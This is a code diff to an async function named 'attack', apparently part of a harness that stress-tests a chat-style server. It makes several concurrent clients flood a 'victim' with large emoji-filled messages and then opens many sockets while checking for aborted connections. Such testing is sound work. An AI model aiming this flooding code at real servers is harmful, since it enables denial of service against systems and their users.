@@ -13,13 +13,10 @@ _HELLOS = 40
 
 async def attack(victim: Victim, most: int) -> Told:
     """`most`: sockets."""
-    told = Told()
+    told = victim.told
     table, host = await open_table(victim)
     seat = await take_seat(victim, table)
-    async with SeatClient([victim.url], table, [host, seat], source=victim.source) as talker:
-        wide = "\N{CITYSCAPE}" * 290
-        for number in range(200):
-            await talker.ask(requests.Say(talker.nonce(), 0, f"{number} {wide}"))
+    await asyncio.gather(*[_talk(victim, table, [host, seat]) for _ in range(4)])
     async with AsyncExitStack() as stack:
         sockets = []
         for _ in range(most):
@@ -35,3 +32,11 @@ async def attack(victim: Victim, most: int) -> Told:
             if socket.writer.is_closing() or not await socket.send(message("ping", "last")):
                 told.cut("aborted")
     return told
+
+
+async def _talk(victim: Victim, table: str, tokens: list[str]) -> None:
+    """As much as one socket may say without a pause."""
+    async with SeatClient([victim.url], table, tokens, source=victim.source) as talker:
+        wide = "\N{CITYSCAPE}" * 290
+        for number in range(50):
+            await talker.ask(requests.Say(talker.nonce(), 0, f"{number} {wide}"))
